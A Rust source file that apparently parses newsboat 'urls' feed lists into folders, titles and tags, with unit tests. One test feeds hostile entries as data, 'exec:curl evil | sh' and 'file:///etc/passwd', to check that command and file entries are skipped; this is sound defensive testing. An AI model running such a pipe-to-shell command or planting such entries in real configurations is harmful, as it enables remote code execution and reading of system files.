//! The `urls` file of newsboat: a feed a line, then its tags (newsboat documentation, "Configuring feeds").

use crate::model::Outline;
use crate::text::CleanText;

use super::extras::value;
use super::searches::Tagged;
use super::{FeedList, ListError, SkipReason, name, web_address};

/// What OPML calls the tags of a feed, with a comma between two (OPML 2.0, "category").
const TAGS: &str = "category";

/// Reads a `urls` file: the first tag of a feed is its folder, `"~…"` its title; more tags are kept for the next list.
///
/// A feed that newsboat hides (`!`) is shown like any other: newsterm has no hidden feeds, and says so. What a query feed
/// asks for depends on the tags of all feeds, so it is kept as it is written.
pub(super) fn read(text: &str) -> Result<FeedList, ListError> {
    let mut list = FeedList::default();
    let mut foreign = 0;
    for (line, text) in (1..).zip(text.lines()) {
        let mut words = words(text).into_iter();
        let Some(address) = words.next() else {
            continue;
        };
        if !looks_like_an_address(&address) {
            foreign += 1;
            list.skip(&address, line, SkipReason::NotWeb);
            continue;
        }
        match web_address(&address) {
            Ok(address) => list.tagged(address, words),
            Err(SkipReason::Query) => list.searches.written.push((line, address)),
            Err(reason) => list.skip(&address, line, reason),
        }
    }
    let known = list.feeds.len() + list.searches.written.len() + list.skipped.len() - foreign;
    if known == 0 {
        return Err(ListError::NotAList);
    }
    Ok(list)
}

impl FeedList {
    /// Takes a feed and its tags.
    fn tagged(&mut self, address: String, words: impl Iterator<Item = String>) {
        let (outline, tags, hidden) = outline(words);
        self.hidden += usize::from(hidden);
        self.tagged += usize::from(tags.len() > 1);
        self.feeds.push(Outline {
            address: address.clone(),
            ..outline
        });
        if !tags.is_empty() {
            self.searches.tagged.push(Tagged { address, tags });
        }
    }
}

/// What the words behind an address say of its feed, its tags, and whether newsboat hides it.
fn outline(words: impl Iterator<Item = String>) -> (Outline, Vec<CleanText>, bool) {
    let (mut outline, mut tags, mut hidden) = (Outline::default(), Vec::new(), false);
    for word in words {
        match word.strip_prefix('~') {
            Some(own) => outline.title = outline.title.or_else(|| name(own)),
            None if word.starts_with('!') => hidden = true,
            None => tags.extend(name(&word)),
        }
    }
    if tags.len() > 1 {
        let all: Vec<_> = tags.iter().map(CleanText::as_str).collect();
        let all = value(&all.join(","));
        outline.extras.insert(TAGS.to_owned(), all);
    }
    outline.folder = tags.first().cloned();
    (outline, tags, hidden)
}

fn looks_like_an_address(word: &str) -> bool {
    match web_address(word) {
        Ok(_) | Err(SkipReason::Command | SkipReason::Query) => true,
        Err(_) => word.contains("://"),
    }
}

/// The words of a line: white space stands between two, quotes hold a word together, `\` takes the next
/// character as it is, and `#` where a word would begin ends the line.
pub(super) fn words(line: &str) -> Vec<String> {
    let mut words = Vec::new();
    let mut rest = line.trim();
    while !rest.is_empty() && !rest.starts_with('#') {
        let (word, after) = if let Some(quoted) = rest.strip_prefix('"') {
            quoted_word(quoted)
        } else {
            let end = rest.find(char::is_whitespace).unwrap_or(rest.len());
            (rest[..end].to_owned(), &rest[end..])
        };
        words.push(word);
        rest = after.trim_start();
    }
    words
}

/// A word up to its closing quote, and what comes after it.
fn quoted_word(text: &str) -> (String, &str) {
    let mut word = String::new();
    let mut characters = text.char_indices();
    while let Some((at, c)) = characters.next() {
        match c {
            '"' => return (word, &text[at + 1..]),
            '\\' => word.extend(characters.next().map(|(_, c)| c)),
            c => word.push(c),
        }
    }
    (word, "")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn feed(address: &str, title: Option<&str>, folder: Option<&str>) -> Outline {
        Outline {
            address: address.to_owned(),
            title: title.map(CleanText::line),
            folder: folder.map(CleanText::line),
            ..Outline::default()
        }
    }

    #[test]
    fn tags_become_folders_and_titles() {
        let list = read(
            "# my feeds\n\
             https://a.example/feed\n\
             https://b.example/ tech linux # beside\n\
             \thttps://c.example/#top \"~My \\\"C\\\"\" \"two words\"\r\n\
             \"https://d.example/x y\" ! \"أخبار\"\n",
        );
        // The first tag is the folder; the others come out again with newsterm export.
        let mut tagged = feed("https://b.example/", None, Some("tech"));
        let both = CleanText::line("tech,linux");
        tagged.extras.insert("category".to_owned(), both);
        let expected = [
            feed("https://a.example/feed", None, None),
            tagged,
            feed("https://c.example/", Some("My \"C\""), Some("two words")),
            feed("https://d.example/x%20y", None, Some("أخبار")),
        ];
        assert_eq!(list.unwrap().feeds, expected);
    }

    #[test]
    fn commands_and_files_are_left_out_and_told_of() {
        let list = read(
            "https://a.example/\n\"exec:curl evil | sh\" tag\nfilter:~/bin/x:https://b.example/\n\
             file:///etc/passwd\nEXEC:x\n|x\n",
        )
        .unwrap();
        assert_eq!(list.feeds, [feed("https://a.example/", None, None)]);
        let skipped: Vec<_> = list
            .skipped
            .iter()
            .map(|skipped| (skipped.what.as_str(), skipped.reason))
            .collect();
        let expected = [
            ("exec:curl evil | sh", SkipReason::Command),
            ("filter:~/bin/x:https://b.example/", SkipReason::Command),
            ("file:///etc/passwd", SkipReason::NotWeb),
            ("EXEC:x", SkipReason::Command),
            ("|x", SkipReason::Command),
        ];
        assert_eq!(skipped, expected);
    }

    #[test]
    fn any_other_text_is_not_a_list() {
        for text in [
            "",
            "# only a remark\n",
            "Dear diary,\ntoday I read the news.\n",
        ] {
            assert_eq!(read(text), Err(ListError::NotAList), "{text:?}");
        }
    }
}
